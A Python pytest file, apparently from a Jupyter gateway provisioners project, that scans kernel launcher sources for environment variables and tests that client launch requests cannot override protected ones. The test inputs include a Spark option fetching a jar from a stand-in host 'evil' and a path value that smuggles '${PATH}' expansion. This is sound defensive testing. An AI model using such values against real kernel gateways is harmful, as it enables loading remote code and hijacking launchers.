"""The variables that the scripts and launchers of a kernel's container read, found in their sources."""

import re
from pathlib import Path

import pytest

from gateway_provisioners.errors import PolicyViolation
from gateway_provisioners.model.request.client_policy import ClientPolicy
from gateway_provisioners.model.request.launch_request import parse_launch_request
from gateway_provisioners.model.request.launcher_variables import NOT_FOR_CLIENTS, SPARK_OPTIONS

LAUNCHERS = Path(__file__).parents[3] / "launchers"
FOR_CLIENTS = {
    "KERNEL_SPARK_CONTEXT_INIT_MODE": "one of three words",
    "KERNEL_MAILBOX_BYTES": "a number; what it counts is within the container's limits",
    "KERNEL_MAILBOX_DISK_BYTES": "a number; what it counts is within the container's limits",
    "HOME": "where its own files are; needs GP_CLIENT_ENVS",
    "USER": "the name that its own programs show; needs GP_CLIENT_ENVS",
    "LOGNAME": "the name that its own programs show; needs GP_CLIENT_ENVS",
    "TMPDIR": "where its own files are; needs GP_CLIENT_ENVS",
    "SPARK_SUBMIT_OPTS": "options of Spark's JVM, which never has the key; needs GP_CLIENT_ENVS",
}
# The shell's own, and constants.
NOT_IN_ENVIRONMENT = {"BASH_SOURCE", "GROUPS", "UID", "REPLY", "BAD_PARAMETER", "NO_RUNTIME"}
# Texts in capitals of the other languages: algorithms, signals, a prefix, a category of the locale.
OTHER_TEXTS = {"AES", "ECB", "RSA", "HUP", "INT", "TERM", "Q", "EG_", "LC_CTYPE"}


def read_by_shell(source):
    code = re.sub(r"(?m)^\s*#.*$", "", source)
    return set(re.findall(r"\$\{?([A-Z][A-Z0-9_]*)", code)) - NOT_IN_ENVIRONMENT


def read_by_launcher(source):
    """Return every text that could be the name of a variable, however it is read."""
    return set(re.findall(r"""(?<=["'])[A-Z][A-Z0-9_]*(?=["'])""", source)) - OTHER_TEXTS


def sources():
    yield LAUNCHERS / "bootstrap-kernel.sh", read_by_shell
    for folder, pattern in (("python", "*.py"), ("r", "*.R"), ("scala/src/main", "*.scala")):
        for path in sorted((LAUNCHERS / folder).rglob(pattern)):
            yield path, read_by_launcher


def found():
    return {name for path, read in sources() for name in read(path.read_text(encoding="utf-8"))}


ALLOWED = {*FOR_CLIENTS, SPARK_OPTIONS}


def test_the_scan_finds_what_each_language_reads():
    read = {path.suffix: set() for path, _ in sources()}
    for path, scan in sources():
        read[path.suffix] |= scan(path.read_text(encoding="utf-8"))
    assert {"KERNEL_LAUNCHERS_DIR", "JAVA_HOME", "EG_PORT_RANGE"} <= read[".sh"]
    assert {"KERNEL_LAUNCH_KEY", "RESPONSE_ATTEMPTS", "TRANSPORT_ENCRYPTION"} <= read[".py"]
    assert {"KERNEL_LAUNCH_KEY", "RESPONSE_ATTEMPTS", "TRANSPORT_ENCRYPTION"} <= read[".R"]
    assert {"KERNEL_LAUNCH_KEY", "RESPONSE_ATTEMPTS", SPARK_OPTIONS} <= read[".scala"]


def test_every_variable_of_a_launcher_has_an_owner():
    assert found() - NOT_FOR_CLIENTS - ALLOWED == set()
    assert FOR_CLIENTS.keys() <= found()


@pytest.mark.attack(11)
@pytest.mark.parametrize("name", sorted((found() | NOT_FOR_CLIENTS) - ALLOWED))
def test_a_client_cannot_redirect_its_launcher(name):
    request = parse_launch_request({name: "forged"}, admin_settings={})
    assert name not in request.environment


@pytest.mark.attack(11)
@pytest.mark.parametrize("name", ["KERNEL_EXPAND_PATH", "KERNEL_EXPAND_KERNEL_LAUNCH_KEY"])
def test_a_client_cannot_have_the_start_script_set_variables(name):
    request = parse_launch_request({name: "/tmp:${PATH}"}, admin_settings={})
    assert request.environment == {}


@pytest.mark.attack(11)
def test_spark_options_of_a_client_need_permission():
    options = {SPARK_OPTIONS: "--jars http://evil/s3cret.jar"}
    with pytest.raises(PolicyViolation, match=r"client_spark_options") as refusal:
        parse_launch_request(options, admin_settings={})
    assert "s3cret" not in str(refusal.value)
    allowed = ClientPolicy(client_spark_options=True)
    request = parse_launch_request(options, admin_settings={}, policy=allowed)
    assert request.environment == options
    assert parse_launch_request({SPARK_OPTIONS: ""}, admin_settings={}).environment == {
        SPARK_OPTIONS: ""
    }
